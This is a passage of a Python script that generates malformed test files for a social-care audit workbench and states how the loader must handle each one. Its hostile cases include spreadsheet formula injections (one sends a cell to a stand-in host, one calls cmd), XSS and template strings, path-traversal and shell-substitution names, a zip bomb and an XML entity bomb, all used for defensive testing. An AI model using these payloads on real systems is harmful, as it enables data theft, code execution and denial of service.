#!/usr/bin/env python3
# ruff: noqa
# fmt: off
"""Write the bad-input corpus for the QAF audit workbench.

    python make_bad_inputs.py OUTDIR [--quarter-style fy|cal] [--big] [--only ID ...]

Every case becomes a folder OUTDIR/<id>/ holding audits.* and moderations.*
(one of the two is spoiled, the other is clean), and OUTDIR/expectations.json
says what the workbench must do with it.  Standard library + openpyxl only.
The output is the same, byte for byte, on every run.

Outcome words
  accept              every row loaded; values equal the clean data
  accept_with_warning every row loaded; a warning says what was seen and done
  quarantine          the rows listed are set aside in the quarantine file with
                      a reason each; all other rows load
  reject_file         nothing loads; exit code is not 0; no output is changed
In every case: rows_in = rows_loaded + rows_quarantined; no traceback is shown;
the message names the file, and the sheet, row and column where there is one,
what was expected, and how to mend it; the input file itself is never altered.

"row" is the row number a spreadsheet shows (the header is row 1, blank lines
count, a quoted line break does not start a new row).
"""
import argparse
import csv
import datetime as dt
import io
import json
import os
import re
import struct
import sys
import zipfile

import openpyxl

A_COLS = ["audit_id", "case_ref", "audit_date", "quarter", "team", "case_type",
          "auditor", "domain", "grade"]
M_COLS = ["audit_id", "moderator", "moderation_source", "moderated_on",
          "domain", "grade", "reason"]
GRADES = ["Outstanding", "Good", "Requires improvement", "Inadequate"]
STYLE = "fy"
EPOCH = (1980, 1, 1, 0, 0, 0)
CASES = []


# ---------------------------------------------------------------- clean data
def quarter_of(iso):
    y, m, _ = map(int, iso.split("-"))
    if STYLE == "cal":
        return f"{y}Q{(m - 1) // 3 + 1}"
    fy = y if m >= 4 else y - 1
    return f"{fy}-{(fy + 1) % 100:02d} Q{((m - 4) % 12) // 3 + 1}"


def base_audits():
    rows = []
    teams = ["Families First North", "Families First South", "Looked After"]
    types = ["Child in need", "Child protection", "Looked after"]
    for i in range(8):
        iso = f"2019-{10 + i % 3:02d}-{4 + 3 * i:02d}"
        for j, dom in enumerate(["Assessment", "Child's voice"]):
            rows.append([f"AUD-{i + 1:04d}", f"C{7000 + i}", iso, quarter_of(iso),
                         teams[i % 3], types[i % 3], f"Auditor {i % 4 + 1:02d}",
                         dom, GRADES[(i + j) % 3 if i != 7 else 3]])
    return rows


def base_mods():
    rows = []
    for i in range(4):
        for j, dom in enumerate(["Assessment", "Child's voice"]):
            rows.append([f"AUD-{i + 1:04d}", f"Moderator {i % 2 + 1}",
                         "Partners in Practice", f"2020-01-{14 + i:02d}", dom,
                         GRADES[min(3, (i + j) % 3 + 1)], "Evidence thin on the child's experience"])
    return rows


# ------------------------------------------------------------------- writers
def csv_text(cols, rows, delim=",", eol="\r\n"):
    s = io.StringIO()
    w = csv.writer(s, delimiter=delim, lineterminator=eol)
    w.writerow(cols)
    w.writerows(rows)
    return s.getvalue()


def put(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    if isinstance(data, str):
        data = data.encode("utf-8")
    with open(path, "wb") as f:
        f.write(data)


def rezip(raw, edit=None, add=None):
    """Rewrite a zip with fixed times and order; edit(name, bytes)->bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw)) as zi, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zo:
        names = sorted(zi.namelist(), key=lambda n: (n != "[Content_Types].xml", n))
        for n in names:
            d = zi.read(n)
            if n == "docProps/core.xml":
                d = re.sub(rb"(<dcterms:(?:created|modified)[^>]*>)[^<]*(<)",
                           rb"\g<1>2020-02-07T00:00:00Z\g<2>", d)
            if edit:
                d = edit(n, d)
            zo.writestr(_zi(n), d)
        for n, d in (add or {}).items():
            zo.writestr(_zi(n), d)
    return out.getvalue()


def _zi(n):
    z = zipfile.ZipInfo(n, EPOCH)
    z.compress_type = zipfile.ZIP_DEFLATED
    z.external_attr = 0o644 << 16
    return z


def xlsx(cols, rows, sheet="audits", dates=True, hook=None, edit=None, add=None):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = sheet
    ws.append(cols)
    dcol = [k for k, c in enumerate(cols) if c in ("audit_date", "moderated_on")]
    for r in rows:
        r = list(r)
        for k in dcol:
            if dates and isinstance(r[k], str) and re.fullmatch(r"\d{4}-\d\d-\d\d", r[k]):
                r[k] = dt.datetime.fromisoformat(r[k])
        ws.append(r)
    if hook:
        hook(wb, ws)
    b = io.BytesIO()
    wb.save(b)
    return rezip(b.getvalue(), edit, add)


def ole(streams):
    """A minimal OLE2 compound file holding the given {name: bytes}."""
    sec, free, end, fatsec = 512, 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    body, chains, pos = b"", [], 2                       # 0 = FAT, 1 = directory
    for d in streams.values():
        d = d.ljust(4096, b"\0")
        d += b"\0" * (-len(d) % sec)
        chains.append((pos, len(d)))
        pos += len(d) // sec
        body += d
    fat = [fatsec, end]
    for start, ln in chains:
        n = ln // sec
        fat += list(range(start + 1, start + n)) + [end]
    fat += [free] * (128 - len(fat))

    def entry(name, typ, start, size, left, right, child):
        u = (name + "\0").encode("utf-16le")
        return (u.ljust(64, b"\0") + struct.pack("<HBB", len(u), typ, 1) +
                struct.pack("<III", left, right, child) + b"\0" * 36 +
                struct.pack("<IQ", start, size))
    ents = [entry("Root Entry", 5, end, 0, free, free, 1)]
    for k, (name, (start, ln)) in enumerate(zip(streams, chains)):
        ents.append(entry(name, 2, start, ln, free, k + 2 if k + 1 < len(streams) else free, free))
    while len(ents) < 4:
        ents.append(b"\0" * 68 + struct.pack("<III", free, free, free) + b"\0" * 48)
    hdr = (b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1" + b"\0" * 16 +
           struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6 +
           struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0) +
           struct.pack("<I", 0) + struct.pack("<I", free) * 108)
    return hdr + struct.pack("<128I", *fat) + b"".join(ents) + body


# -------------------------------------------------------------- case register
def case(cid, title, outcome, rows_in=None, loaded=None, quarantined=None,
         where=(), mentions=(), mend="", also=(), target="audits", big=False):
    def deco(fn):
        CASES.append(dict(id=cid, title=title, outcome=outcome, rows_in=rows_in,
                          loaded=loaded, quarantined=quarantined, where=list(where),
                          mentions=[list(m) if isinstance(m, (tuple, list)) else [m] for m in mentions],
                          mend=mend, also=list(also), target=target, big=big, fn=fn))
        return fn
    return deco


def at(row=None, column=None, sheet=None):
    return {k: v for k, v in dict(row=row, column=column, sheet=sheet).items() if v is not None}


def audits_csv(change=None, **k):
    rows = base_audits()
    if change:
        rows = change(rows) or rows
    return csv_text(A_COLS, rows, **k)


def mods_csv(change=None, **k):
    rows = base_mods()
    if change:
        rows = change(rows) or rows
    return csv_text(M_COLS, rows, **k)


def setv(row, col, val, cols=A_COLS):
    """row is the spreadsheet row (header = 1)."""
    def f(rows):
        rows[row - 2][cols.index(col)] = val
    return f


# ============================================================ A. bytes & shape
@case("A01_utf8_bom", "UTF-8 with a byte-order mark (Excel 'CSV UTF-8')", "accept", 16, 16, 0,
      mend="none needed; the mark must not become part of 'audit_id'")
def _(d): put(d + "/audits.csv", b"\xef\xbb\xbf" + audits_csv().encode())


@case("A02_utf16le", "UTF-16LE with mark (Excel 'Unicode text'), tab separated", "accept", 16, 16, 0,
      mend="none needed")
def _(d): put(d + "/audits.csv", b"\xff\xfe" + audits_csv(delim="\t").encode("utf-16le"))


@case("A03_cp1252", "Windows-1252 bytes: en dash, curly quote, pound sign in team and reason",
      "accept_with_warning", 8, 8, 0, target="moderations",
      mentions=[("1252", "encoding", "UTF-8")], mend="save as 'CSV UTF-8'")
def _(d):
    t = mods_csv(setv(3, "reason", "Chronology missing \u2013 team\u2019s \u00a3 spend", M_COLS))
    put(d + "/moderations.csv", t.encode("cp1252"))


@case("A04_nul_bytes", "NUL bytes inside one row", "quarantine", 16, 15, 1, [at(5, "team")],
      [("NUL", "null", "control")], "export the file again")
def _(d): put(d + "/audits.csv", audits_csv(setv(5, "team", "Looked\x00After")))


@case("A05_semicolon", "Semicolon separated (continental Excel)", "accept_with_warning", 16, 16, 0,
      mentions=[("semicolon", ";")], mend="none needed, or save with commas")
def _(d): put(d + "/audits.csv", audits_csv(delim=";"))


@case("A06_mixed_line_ends", "CRLF, LF and lone CR line ends in one file", "accept", 16, 16, 0)
def _(d):
    L = audits_csv(eol="\n").split("\n")[:-1]
    put(d + "/audits.csv", "".join(x + ["\r\n", "\n", "\r"][i % 3] for i, x in enumerate(L)))


@case("A07_line_break_in_quotes", "A quoted reason holding three line breaks and commas", "accept",
      8, 8, 0, target="moderations", also=["later row numbers still count records, not lines"])
def _(d): put(d + "/moderations.csv", mods_csv(setv(3, "reason", 'No, not "good":\nno plan\r\nno visit\n', M_COLS)))


@case("A08_unclosed_quote", "A quotation mark opened on row 6 and never closed", "reject_file", 16, 0, 0,
      [at(6)], [("quot",)], "close the quotation mark in row 6")
def _(d):
    L = audits_csv(eol="\n").split("\n")
    L[5] = L[5].replace("Families First", '"Families First', 1) if "Families" in L[5] else '"' + L[5]
    put(d + "/audits.csv", "\n".join(L))


@case("A09_row_too_long", "Row 4 has two cells too many (an unquoted comma)", "quarantine", 16, 15, 1,
      [at(4)], [("9", "nine", "columns", "cells")], "put quotation marks round the cell holding a comma")
def _(d): put(d + "/audits.csv", audits_csv(lambda r: r[2].extend(["x", "y"])))


@case("A10_row_too_short", "Row 7 stops after five cells", "quarantine", 16, 15, 1, [at(7)],
      [("9", "nine", "columns", "cells", "missing")], "fill in the missing cells")
def _(d):
    def f(r): r[5] = r[5][:5]
    put(d + "/audits.csv", audits_csv(f))


@case("A11_trailing_empty_columns", "Four empty unnamed columns to the right (Excel residue)", "accept", 16, 16, 0)
def _(d): put(d + "/audits.csv", csv_text(A_COLS + [""] * 4, [r + [""] * 4 for r in base_audits()]))


@case("A12_blank_rows", "Blank rows between records, and twenty at the foot", "accept", 16, 16, 0,
      also=["blank rows are not counted as records but do count for row numbers"])
def _(d):
    def f(r): return r[:4] + [[""] * 9] + r[4:9] + [[]] + r[9:] + [[""] * 9] * 20
    put(d + "/audits.csv", audits_csv(f))


@case("A13_header_only", "A header and no rows", "reject_file", 0, 0, 0, [], [("no rows", "no audits", "empty")],
      "check the export's date range")
def _(d): put(d + "/audits.csv", csv_text(A_COLS, []))


@case("A14_zero_bytes", "A file of no bytes", "reject_file", 0, 0, 0, [], [("empty",)], "export the file again")
def _(d): put(d + "/audits.csv", b"")


@case("A15_title_rows", "Three title rows above the header", "accept_with_warning", 16, 16, 0, [at(4)],
      [("header", "row 4")], "none needed, or delete the rows above the header",
      also=["row numbers in later messages are the file's own"])
def _(d): put(d + "/audits.csv", "Quality assurance audits,,\r\nExtracted 07/01/2020,,\r\n,,\r\n" + audits_csv())


@case("A16_repeated_header", "The header again at row 10 (two exports pasted together)", "quarantine", 17, 16, 1,
      [at(10)], [("header",)], "delete row 10")
def _(d): put(d + "/audits.csv", audits_csv(lambda r: r.insert(8, list(A_COLS))))


@case("A17_duplicate_column", "Two columns named 'grade' that disagree", "reject_file", 16, 0, 0,
      [at(1, "grade")], [("grade",), ("twice", "duplicate", "two", "2")], "delete or rename one of them")
def _(d):
    put(d + "/audits.csv", csv_text(A_COLS + ["grade"], [r + ["Good"] for r in base_audits()]))


@case("A18_header_variants", "Headers ' Audit ID ', 'CASE_REF', 'Audit Date' ...", "accept_with_warning", 16, 16, 0,
      mentions=[("Audit ID", "audit_id")])
def _(d):
    put(d + "/audits.csv", csv_text([" Audit ID ", "CASE_REF", "Audit Date", "Quarter", "Team ", "Case type",
                                     "Auditor", "Domain", "GRADE"], base_audits()))


@case("A19_missing_column", "No 'auditor' column", "reject_file", 16, 0, 0, [at(1, "auditor")],
      [("auditor",), ("missing", "not found")], "add the column to the export")
def _(d):
    k = A_COLS.index("auditor")
    put(d + "/audits.csv", csv_text([c for c in A_COLS if c != "auditor"],
                                    [r[:k] + r[k + 1:] for r in base_audits()]))


@case("A20_misspelt_column", "'moderater' for 'moderator'", "reject_file", 8, 0, 0, [at(1, "moderator")],
      [("moderater",), ("moderator",)], "rename the column (the message offers the nearest name)", target="moderations")
def _(d): put(d + "/moderations.csv", csv_text(["audit_id", "moderater"] + M_COLS[2:], base_mods()))


@case("A21_unexpected_child_name", "An extra column 'child_name' holding names", "accept_with_warning", 16, 16, 0,
      [at(1, "child_name")], [("child_name",)], "leave the column out of the export",
      also=["the names appear in no output, log, manifest or quarantine file"])
def _(d):
    put(d + "/audits.csv", csv_text(A_COLS + ["child_name"],
                                    [r + [f"Zebedee Testname{i}"] for i, r in enumerate(base_audits())]))


@case("A22_total_row", "A 'Total' row at the foot", "quarantine", 17, 16, 1, [at(18)], [("total", "audit_id", "date")],
      "delete the total row")
def _(d): put(d + "/audits.csv", audits_csv(lambda r: r.append(["Total", "", "", "", "", "", "", "", "16"])))


@case("A23_xlsx_named_csv", "An Excel workbook renamed audits.csv", "reject_file", None, 0, 0, [],
      [("Excel", "xlsx", "workbook")], "rename it audits.xlsx, or save as CSV")
def _(d): put(d + "/audits.csv", xlsx(A_COLS, base_audits()))


@case("A24_html_named_xls", "An HTML table saved as audits.xls (old reporting tools)", "reject_file", None, 0, 0, [],
      [("HTML", "web page", ".xls")], "open it in Excel and save as .xlsx")
def _(d):
    h = "".join("<tr>" + "".join(f"<td>{c}</td>" for c in r) + "</tr>" for r in [A_COLS] + base_audits())
    put(d + "/audits.xls", "<html><table>" + h + "</table></html>")


@case("A25_conflict_markers", "Unresolved version-control conflict markers", "reject_file", None, 0, 0, [at(5)],
      [("conflict", "<<<<<<<")], "resolve the conflict and save")
def _(d):
    L = audits_csv(eol="\n").split("\n")
    put(d + "/audits.csv", "\n".join(L[:4] + ["<<<<<<< HEAD", L[4], "=======", L[4].replace("Good", "Inadequate"),
                                               ">>>>>>> other"] + L[5:]))


@case("A26_invalid_utf8_middle", "UTF-8 throughout but for one truncated sequence in row 9", "accept_with_warning",
      16, 16, 0, [at(9, "team")], [("encoding", "UTF-8", "character")], "retype the cell",
      also=["the bad bytes are shown as U+FFFD; other accented text in the file is right"])
def _(d):
    b = audits_csv(lambda r: (setv(3, "team", "\u00c9quipe Nord")(r), setv(9, "team", "@@@@")(r)) and None).encode()
    put(d + "/audits.csv", b.replace(b"@@@@", b"Caf\xc3 Team"))


# ========================================================= B. hostile content
@case("B01_formula_text", "Teams and reasons starting = + - @ tab", "accept", 8, 8, 0, target="moderations",
      also=["in every workbook written the cells are text, not formulas", "in every CSV written they cannot run when opened"])
def _(d):
    def f(r):
        for k, v in enumerate(['=HYPERLINK("http://example.invalid/?"&A1,"see plan")', "=cmd|'/C calc'!A0",
                               "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1"]):
            r[k][6] = v
    put(d + "/moderations.csv", mods_csv(f))


@case("B02_html_text", "Script, event handlers, links and style in reason and team", "accept", 8, 8, 0,
      target="moderations", also=["in every page written the text is shown, never run (check the parsed page, not the string)"])
def _(d):
    def f(r):
        for k, v in enumerate(["<script>window.PWNED=1</script>", '<img src=x onerror="window.PWNED=1">',
                               '<svg onload="window.PWNED=1">', "[plan](javascript:window.PWNED=1)",
                               "</td></table><iframe srcdoc='x'>", "<style>td{display:none}</style>",
                               "$\\href{javascript:window.PWNED=1}{x}$", "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>"]):
            r[k][6] = v
    put(d + "/moderations.csv", mods_csv(f))


@case("B03_path_names", "Team names that are paths or reserved Windows names", "accept", 16, 16, 0,
      also=["no file is written outside the output folder", "two teams never share one output file name"])
def _(d):
    def f(r):
        for k, v in enumerate(["../../outside", "..\\..\\outside", "/etc/cron.d/x", "C:\\Windows\\x", "CON", "nul.txt",
                               "a/b", "a:b", "a?b", "Team.", "Team", "team", " ", "~root", "$(touch x)", "x" * 300]):
            r[k][4] = v if v.strip() else "Team \u00a0"
    put(d + "/audits.csv", audits_csv(f))


@case("B04_invisible_characters", "One team spelt with zero-width space, right-to-left mark, no-break space, full-width letter",
      "accept_with_warning", 16, 16, 0, [at(2, "team"), at(5, "team")], [("invisible", "hidden", "character", "space")],
      "retype the team name", also=["the report shows one team, not five"])
def _(d):
    def f(r):
        for k, v in zip((0, 3, 6, 9), ("Families\u200b First North", "Families First North\u200f",
                                       "Families\u00a0First North", "\uff26amilies First North")):
            r[k][4] = v
    put(d + "/audits.csv", audits_csv(f))


@case("B05_huge_cell", "A reason of one million characters", "quarantine", 8, 7, 1, [at(4, "reason")],
      [("long", "characters")], "shorten the text (limit stated in the message)", target="moderations",
      also=["the log and the message show at most a short extract"])
def _(d): put(d + "/moderations.csv", mods_csv(setv(4, "reason", "lorem " * 170000, M_COLS)))


@case("B06_personal_data_in_reason", "A name, date of birth, NHS-like number and postcode in reason", "accept_with_warning",
      8, 8, 0, [at(3, "reason"), at(5, "reason")], [("personal", "identif")], "take the details out at source",
      target="moderations", also=["the details appear in no published output and no log"])
def _(d):
    def f(r):
        r[1][6] = "Zebedee Testname, born 12/03/2009, not seen alone"
        r[3][6] = "NHS 999 000 0000, lives at ZZ99 9ZZ, tel 07700 900000"
    put(d + "/moderations.csv", mods_csv(f))


# =============================================================== C. bad values
@case("C01_unknown_grade", "'Satisfactory' (a grade that ended in 2013)", "quarantine", 16, 15, 1, [at(3, "grade")],
      [("Satisfactory",), ("Outstanding", "one of")], "use one of the four grades")
def _(d): put(d + "/audits.csv", audits_csv(setv(3, "grade", "Satisfactory")))


@case("C02_grade_spellings", "'good', ' RI ', 'Requires Improvement to be good', 'OUTSTANDING'", "accept_with_warning", 16, 16, 0,
      mentions=[("RI",), ("Requires improvement",)], also=["each spelling is listed with its count"])
def _(d):
    def f(r):
        for k, v in zip((0, 1, 2, 3), ("good", " RI ", "Requires Improvement to be good", "OUTSTANDING")):
            r[k][8] = v
    put(d + "/audits.csv", audits_csv(f))


@case("C03_numeric_grades", "Grades 1-4 with no key saying which end is best", "reject_file", 16, 0, 0, [at(2, "grade")],
      [("1",), ("mapping", "which", "means")], "state in the settings what each number means",
      also=["the direction is never guessed"])
def _(d):
    def f(r):
        for x in r: x[8] = str(GRADES.index(x[8]) + 1)
    put(d + "/audits.csv", audits_csv(f))


@case("C04_blank_grade", "Blank, 'N/A' and 'Not graded' grades", "quarantine", 16, 13, 3,
      [at(2, "grade"), at(4, "grade"), at(6, "grade")], [("grade",), ("blank", "missing", "empty", "not graded")],
      "enter the grade, or leave the row out")
def _(d):
    def f(r): r[0][8], r[2][8], r[4][8] = "", "N/A", "Not graded"
    put(d + "/audits.csv", audits_csv(f))


@case("C05_exact_duplicate", "Row 18 repeats row 3 in every cell", "quarantine", 17, 16, 1, [at(18)],
      [("duplicate", "repeat"), ("3",)], "delete row 18")
def _(d): put(d + "/audits.csv", audits_csv(lambda r: r.append(list(r[1]))))


@case("C06_conflicting_duplicate", "The same audit and domain twice with different grades", "quarantine", 17, 15, 2,
      [at(3), at(18)], [("AUD-0001",), ("differ", "conflict", "two grades")], "find out which grade stands",
      also=["neither row is silently preferred"])
def _(d): put(d + "/audits.csv", audits_csv(lambda r: r.append(r[1][:8] + ["Inadequate"])))


@case("C07_uk_dates", "Every date dd/mm/yyyy", "accept_with_warning", 16, 16, 0, mentions=[("dd/mm", "day first", "day/month")],
      also=["04/10/2019 is 4 October"])
def _(d):
    def f(r):
        for x in r: x[2] = "/".join(reversed(x[2].split("-")))
    put(d + "/audits.csv", audits_csv(f))


@case("C08_us_date_among_uk", "dd/mm/yyyy throughout but row 9 is 11/25/2019", "quarantine", 16, 15, 1, [at(9, "audit_date")],
      [("11/25/2019",)], "write the date as 25/11/2019 or 2019-11-25")
def _(d):
    def f(r):
        for x in r: x[2] = "/".join(reversed(x[2].split("-")))
        r[7][2] = "11/25/2019"
    put(d + "/audits.csv", audits_csv(f))


@case("C09_impossible_date", "31/11/2019 and 2019-02-30", "quarantine", 16, 14, 2, [at(4, "audit_date"), at(8, "audit_date")],
      [("2019-02-30",), ("31/11/2019",)], "correct the dates")
def _(d):
    def f(r): r[2][2], r[6][2] = "31/11/2019", "2019-02-30"
    put(d + "/audits.csv", audits_csv(f))


@case("C10_future_and_ancient", "Dates 2099-10-04 and 1919-10-04", "quarantine", 16, 14, 2,
      [at(2, "audit_date"), at(5, "audit_date")], [("2099-10-04",), ("1919-10-04",)], "correct the year")
def _(d):
    def f(r): r[0][2], r[3][2] = "2099-10-04", "1919-10-04"
    put(d + "/audits.csv", audits_csv(f))


@case("C11_serial_date_in_csv", "43776 where a date should be", "quarantine", 16, 15, 1, [at(6, "audit_date")],
      [("43776",), ("2019-11-07", "serial", "Excel")], "format the column as a date before saving",
      also=["the message offers 2019-11-07 but does not assume it"])
def _(d): put(d + "/audits.csv", audits_csv(setv(6, "audit_date", "43776")))


@case("C12_quarter_disagrees", "Row 5's quarter is not the one its date falls in", "quarantine", 16, 15, 1, [at(5, "quarter")],
      [("quarter",), ("date",)], "correct the quarter or the date")
def _(d): put(d + "/audits.csv", audits_csv(setv(5, "quarter", quarter_of("2018-05-01"))))


@case("C13_auditor_spellings", "'Auditor 01', 'auditor 01', 'Auditor  01', 'Auditor O1'", "accept_with_warning", 16, 16, 0,
      [at(3, "auditor")], [("Auditor O1", "similar", "spelling")], "agree one spelling",
      also=["case and spacing are joined; the letter O for zero is only reported"])
def _(d):
    def f(r): r[1][6], r[8][6], r[9][6] = "auditor 01", "Auditor  01", "Auditor O1"
    put(d + "/audits.csv", audits_csv(f))


@case("C14_orphan_moderation", "A moderation of AUD-9999, which is not in the audits", "quarantine", 9, 8, 1, [at(10, "audit_id")],
      [("AUD-9999",)], "add the audit or correct the id", target="moderations")
def _(d): put(d + "/moderations.csv", mods_csv(lambda r: r.append(["AUD-9999"] + r[0][1:])))


@case("C15_leading_zeros_lost", "Moderations hold 1, 2, 3 where the audits hold 0001, 0002, 0003", "quarantine", 8, 0, 8,
      [at(2, "audit_id")], [("leading zero", "0001")], "format the column as text in Excel", target="moderations",
      also=["the near match is offered, never assumed"])
def _(d):
    a, m = base_audits(), base_mods()
    for x in a: x[0] = x[0][4:]
    for x in m: x[0] = str(int(x[0][4:]))
    put(d + "/audits.csv", csv_text(A_COLS, a))
    put(d + "/moderations.csv", csv_text(M_COLS, m))


@case("C16_scientific_ids", "audit_id 2.01911E+11 for several audits", "quarantine", 16, 12, 4,
      [at(2, "audit_id")], [("2.01911E+11",)], "format the column as text and export again")
def _(d):
    def f(r):
        for k in range(4): r[k][0] = "2.01911E+11"
    put(d + "/audits.csv", audits_csv(f))


@case("C17_moderated_before_audit", "moderated_on is before audit_date", "quarantine", 8, 7, 1, [at(4, "moderated_on")],
      [("before",)], "correct one of the dates", target="moderations")
def _(d): put(d + "/moderations.csv", mods_csv(setv(4, "moderated_on", "2019-01-05", M_COLS)))


@case("C18_self_moderation", "The moderator is the auditor", "quarantine", 8, 7, 1, [at(2, "moderator")],
      [("Auditor 01",), ("own", "same person", "self")], "have someone else moderate", target="moderations")
def _(d): put(d + "/moderations.csv", mods_csv(setv(2, "moderator", "auditor 01", M_COLS)))


# ================================================================= D. workbooks
@case("D01_merged_header", "A workbook whose header is two rows with merged cells", "reject_file", 16, 0, 0,
      [at(1, sheet="audits")], [("merged",), ("A1:C1",)], "unmerge the cells and keep one header row")
def _(d):
    def hook(wb, ws):
        ws.insert_rows(1)
        ws["A1"], ws["D1"], ws["H1"] = "Audit", "Where", "Result"
        for rng in ("A1:C1", "D1:G1", "H1:I1"): ws.merge_cells(rng)
        ws.merge_cells("A2:A3")
    put(d + "/audits.xlsx", xlsx(A_COLS, base_audits(), hook=hook))


@case("D02_error_cells", "#REF!, #N/A and #VALUE! in grade and team", "quarantine", 16, 13, 3,
      [at(3, "grade", "audits"), at(5, "team", "audits"), at(7, "grade", "audits")], [("#REF!",), ("#N/A",)],
      "mend the formula and save")
def _(d):
    def hook(wb, ws):
        for c, v in (("I3", "#REF!"), ("E5", "#N/A"), ("I7", "#VALUE!")):
            ws[c].value, ws[c].data_type = v, "e"
    put(d + "/audits.xlsx", xlsx(A_COLS, base_audits(), hook=hook))


@case("D03_formula_without_value", "Grades that are formulas with no stored result", "quarantine", 16, 14, 2,
      [at(4, "grade", "audits"), at(6, "grade", "audits")], [("formula",)], "open and save in Excel, or paste as values",
      also=["never read as a blank grade without saying so"])
def _(d):
    def hook(wb, ws):
        ws["I4"], ws["I6"] = '=IF(1=1,"Good","")', "=I2"
    put(d + "/audits.xlsx", xlsx(A_COLS, base_audits(), hook=hook))


@case("D04_1904_dates", "The workbook counts dates from 1904", "accept", 16, 16, 0,
      also=["the first audit_date is 2019-10-04, not 2015-10-03"])
def _(d):
    def hook(wb, ws):
        from openpyxl.utils.datetime import CALENDAR_MAC_1904
        wb.epoch = CALENDAR_MAC_1904
    put(d + "/audits.xlsx", xlsx(A_COLS, base_audits(), hook=hook))


@case("D05_dates_text_and_real", "Half the dates are real, half are text dd/mm/yyyy", "accept_with_warning", 16, 16, 0,
      [at(3, "audit_date", "audits")], [("text",)], "format the column as dates")
def _(d):
    def hook(wb, ws):
        for k, r in enumerate(base_audits(), start=2):
            if k % 2: ws.cell(k, 3).value = "/".join(reversed(r[2].split("-")))
    put(d + "/audits.xlsx", xlsx(A_COLS, base_audits(), hook=hook))


@case("D06_second_sheet", "A cover sheet first, the audits on the second sheet", "accept_with_warning", 16, 16, 0,
      [at(sheet="Audit data")], [("Audit data",)], "none needed, or name the sheet in the settings")
def _(d):
    def hook(wb, ws):
        c = wb.create_sheet("Cover", 0)
        c["A1"] = "Quality assurance: quarter three"
    put(d + "/audits.xlsx", xlsx(A_COLS, base_audits(), sheet="Audit data", hook=hook))


@case("D07_two_candidate_sheets", "Two sheets both look like audits ('Q3', 'Q3 old')", "reject_file", 32, 0, 0,
      [at(sheet="Q3"), at(sheet="Q3 old")], [("Q3 old",)], "name the sheet in the settings")
def _(d):
    def hook(wb, ws):
        w = wb.create_sheet("Q3 old")
        w.append(A_COLS)
        for r in base_audits(): w.append(r[:8] + ["Good"])
    put(d + "/audits.xlsx", xlsx(A_COLS, base_audits(), sheet="Q3", hook=hook))


@case("D08_hidden_rows", "A filter hides six rows; one sheet is hidden", "accept_with_warning", 16, 16, 0,
      [at(sheet="audits")], [("hidden", "filter")], "clear the filter if the rows should not count",
      also=["hidden rows are loaded and the warning says how many"])
def _(d):
    def hook(wb, ws):
        ws.auto_filter.ref = "A1:I17"
        for k in range(4, 10): ws.row_dimensions[k].hidden = True
        h = wb.create_sheet("lookup")
        h.sheet_state = "hidden"
    put(d + "/audits.xlsx", xlsx(A_COLS, base_audits(), hook=hook))


@case("D09_password", "A workbook with a password to open", "reject_file", None, 0, 0, [], [("password", "encrypt")],
      "remove the password and save")
def _(d):
    b64 = "AAAAAAAAAAAAAAAAAAAAAA=="
    algo = ('saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" '
            f'cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="{b64}"')
    xml = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><encryption '
           'xmlns="http://schemas.microsoft.com/office/2006/encryption" '
           'xmlns:p="http://schemas.microsoft.com/office/2006/keyEncryptor/password">'
           f'<keyData {algo}/><dataIntegrity encryptedHmacKey="{b64}" encryptedHmacValue="{b64}"/>'
           '<keyEncryptors><keyEncryptor uri="http://schemas.microsoft.com/office/2006/keyEncryptor/password">'
           f'<p:encryptedKey spinCount="100000" {algo} encryptedVerifierHashInput="{b64}" '
           f'encryptedVerifierHashValue="{b64}" encryptedKeyValue="{b64}"/></keyEncryptor></keyEncryptors></encryption>')
    info = struct.pack("<HHI", 4, 4, 0x40) + xml.encode().ljust(4088)
    put(d + "/audits.xlsx", ole({"EncryptionInfo": info, "EncryptedPackage": b"\x5a" * 4096}))


@case("D10_macro_workbook", "audits.xlsm with a macro part", "accept_with_warning", 16, 16, 0, [], [("macro",)],
      "none needed, or save as .xlsx", also=["no macro is run; no macro part is copied to any output"])
def _(d):
    def edit(n, b):
        if n == "[Content_Types].xml":
            b = b.replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                          b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
            b = b.replace(b"<Override ", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override ', 1)
        return b
    put(d + "/audits.xlsm", xlsx(A_COLS, base_audits(), edit=edit,
                                 add={"xl/vbaProject.bin": ole({"VBA": b"placeholder"})}))


@case("D11_zip_bomb", "A workbook of under 1 MB with one cell that unpacks to 400 MB", "reject_file", None, 0, 0, [],
      [("large", "size", "unpack", "compressed")], "export the file again",
      also=["peak memory stays under 500 MB", "answers within 10 seconds"])
def _(d):
    raw = xlsx(A_COLS, base_audits())
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw)) as zi, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zo:
        for n in zi.namelist():
            if n != "xl/worksheets/sheet1.xml":
                zo.writestr(_zi(n), zi.read(n))
        sheet = zi.read("xl/worksheets/sheet1.xml")
        k = sheet.index(b"Families First North")
        with zo.open(_zi("xl/worksheets/sheet1.xml"), "w") as f:
            f.write(sheet[:k])
            for _ in range(400): f.write(b"A" * 1048576)
            f.write(sheet[k:])
    put(d + "/audits.xlsx", out.getvalue())


@case("D12_entity_expansion", "Nested XML entities in the workbook's sheet (a cell that unpacks to ten thousand million characters)", "reject_file", None, 0, 0, [],
      [("XML", "entit", "damaged", "unsafe")], "export the file again", also=["peak memory stays under 500 MB"])
def _(d):
    ents = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)) + "]>"
    def edit(n, b):
        if n == "xl/worksheets/sheet1.xml":
